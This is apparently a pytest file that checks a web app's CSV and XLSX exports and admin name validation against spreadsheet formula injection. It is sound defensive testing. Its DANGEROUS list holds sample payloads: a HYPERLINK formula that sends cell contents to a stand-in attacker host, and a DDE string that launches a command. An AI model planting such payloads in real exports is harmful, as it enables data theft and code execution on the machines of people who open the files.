"""Exports that cannot run code: a cell that begins like a formula is written as text in the CSV
and the XLSX, and names that begin so are refused when an admin enters them."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.admin.services import lists, organisations, units
from app.auth.services import find_user
from app.common.dates import today_local
from app.common.errors import ServiceError
from app.data.seed import organisation_by_name
from app.extensions import db
from app.models import Agreement, Category, Deviation
from reports import Tertial
from reports.export import csv_bytes, xlsx_bytes

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
    "+47 918 45 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Trondheim", "kommune → sykehus", "a=b", "St. Olavs hospital HF"]
from tests import factories


def _cells(body: bytes) -> list:
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_no_xlsx_cell_is_a_formula_and_the_text_is_kept():
    rows = [[text, 7, -3, date(2026, 1, 5)] for text in DANGEROUS + HARMLESS]
    cells = _cells(xlsx_bytes(["tekst", "tall", "negativt", "dato"], rows))
    assert [c for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if c.column == 1][1:]
    # Shown as typed, only not run (XML reads a carriage return back as a line feed).
    assert texts == [t.replace("\r", "\n") for t in DANGEROUS + HARMLESS]
    numbers = [c.value for c in cells if c.column in (2, 3)][2:]
    assert set(numbers) == {7, -3}  # numbers stay numbers
    assert all(c.quotePrefix for c in cells[4:] if c.column == 1 and c.value[0] in "=+-@\t\n")


def test_csv_cells_that_look_like_formulas_get_an_apostrophe():
    body = csv_bytes(["tekst", "tall"], [[text, -3] for text in DANGEROUS + HARMLESS])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in DANGEROUS] + HARMLESS
    assert {r[1] for r in rows} == {"-3"}


def test_the_statistics_downloads_write_an_old_formula_like_name_as_text(client, login_as):
    # A name stored before the rule existed (or imported): the download must still be safe.
    with client.application.app_context():
        deviation = factories.deviation(event_date=today_local() - timedelta(days=1))
        db.session.execute(
            sa.update(Deviation)
            .where(Deviation.id == deviation.id)
            .values(reporter_org_name=DANGEROUS[0])
        )
        db.session.commit()
    code = Tertial.of(today_local()).code
    login_as("forbedring@demo.demo")
    cells = _cells(client.get(f"/statistikk/{code}/avvik.xlsx").get_data())
    assert [c for c in cells if c.data_type == "f"] == []
    assert DANGEROUS[0] in [c.value for c in cells]
    text = client.get(f"/statistikk/{code}/avvik.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert "'" + DANGEROUS[0] in rows[1]


@pytest.mark.parametrize("name", ["=cmd", "+47", "-1", "@SUM(A1)", "\t=1+1", " =1+1"])
def test_names_that_would_start_a_formula_are_refused(ctx, name):
    admin = find_user("admin@demo.demo")
    trondheim = organisation_by_name("Trondheim")
    attempts = [
        lambda: units.create_unit(admin, trondheim, name, None),
        lambda: lists.create_item(admin, Category, name),
        lambda: lists.create_item(admin, Agreement, name),
        lambda: organisations.create_organisation(admin, name, "kommune", 14),
    ]
    for attempt in attempts:
        with pytest.raises(ServiceError) as refused:
            attempt()
        assert refused.value.code == "formula" and refused.value.field == "name"
        assert "formel" in str(refused.value.message)
        db.session.rollback()


def test_the_admin_form_keeps_the_name_and_says_why(client, login_as):
    login_as("admin@demo.demo")
    response = client.post("/admin/kategorier", data={"name": "=1+1"})
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "formel" in page and 'value="=1+1"' in page
